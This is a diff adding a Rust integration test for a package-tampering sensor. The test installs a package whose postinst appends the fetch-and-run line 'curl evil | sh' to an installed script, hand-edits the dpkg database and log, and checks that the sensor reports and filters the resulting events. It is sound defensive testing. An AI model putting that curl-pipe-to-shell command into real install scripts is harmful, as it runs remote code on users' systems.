@@ -628,3 +628,93 @@ fn a_direct_edit_of_the_status_database_is_unlogged() -> anyhow::Result<()> {
     assert_eq!(event["evidence"]["writer"], Value::Null);
     Ok(())
 }
+
+/// Runs `fenrir-sensor query` over the sandbox's store and log and returns its JSON events.
+fn query(sandbox: &Sandbox, extra: &[&str]) -> anyhow::Result<Vec<Value>> {
+    let output = Command::new(binary()?)
+        .args(["query", "--format", "json", "--state-dir"])
+        .arg(sandbox.path().join("state"))
+        .arg("--dpkg-log")
+        .arg(sandbox.log())
+        .args(extra)
+        .output()
+        .context("failed to run fenrir-sensor query")?;
+    anyhow::ensure!(
+        output.status.success(),
+        "query failed: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8(output.stdout)?
+        .lines()
+        .map(|line| serde_json::from_str(line).context("a JSON event"))
+        .collect()
+}
+
+#[test]
+fn integrity_events_are_stored_and_found_by_their_type() -> anyhow::Result<()> {
+    if !require_root("the integrity test") {
+        return Ok(());
+    }
+    let sandbox = Sandbox::new()?;
+    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;
+    let spec = PackageSpec::new("fenrir-altered", "1.0")
+        .file("usr/bin/fenrir-altered", "#!/bin/sh\necho hi\n")
+        .postinst("echo 'curl evil | sh' >> \"$DPKG_ROOT/usr/bin/fenrir-altered\"");
+    sandbox.install(&spec)?;
+    wait_for(&sensor, "package_integrity_mismatch")?;
+
+    // A hand edit of the database, then of the log.
+    let status = sandbox.admin_dir().join("status");
+    let text = fs::read_to_string(&status)?;
+    fs::write(&status, text.replace("Version: 1.0", "Version: 9.9"))?;
+    wait_for(&sensor, "package_change_unlogged")?;
+    // The unlogged "9.9" is checked like an install, and its altered file found again.
+    wait_for(&sensor, "package_integrity_mismatch")?;
+    let log = sandbox.log();
+    let content = fs::read_to_string(&log)?;
+    let at = content
+        .find("install fenrir-altered")
+        .context("install line")?;
+    overwrite_at(&log, at as u64, b"install fenrir-a1tered")?;
+    wait_for(&sensor, "log_tamper")?;
+    let (status, _) = sensor.stop()?;
+    assert!(status.success());
+
+    let found = query(
+        &sandbox,
+        &[
+            "--no-logs",
+            "--type",
+            "integrity_mismatch,change_unlogged",
+            "--type",
+            "log_tamper",
+        ],
+    )?;
+    assert_eq!(
+        categories(&found),
+        [
+            "package_integrity_mismatch",
+            "package_change_unlogged",
+            "package_integrity_mismatch",
+            "log_tamper"
+        ],
+        "{found:#?}"
+    );
+    assert!(
+        found.iter().all(|e| e["source"] == "integrity"),
+        "{found:#?}"
+    );
+    assert_eq!(found[1]["parsed_data"]["new_version"], "9.9");
+    assert_eq!(found[2]["parsed_data"]["new_version"], "9.9");
+    assert_eq!(found[3]["evidence"]["seen"], "changed");
+
+    // Full names work too, and with the log as a source each event is still there once.
+    let unlogged = query(&sandbox, &["--type", "package_change_unlogged"])?;
+    assert_eq!(categories(&unlogged), ["package_change_unlogged"]);
+    let tamper = query(&sandbox, &["--type", "log_tamper"])?;
+    assert_eq!(categories(&tamper), ["log_tamper"]);
+    // A package type does not bring them along.
+    let installs = query(&sandbox, &["--no-logs", "--type", "install"])?;
+    assert_eq!(categories(&installs), ["package_install"], "{installs:#?}");
+    Ok(())
+}
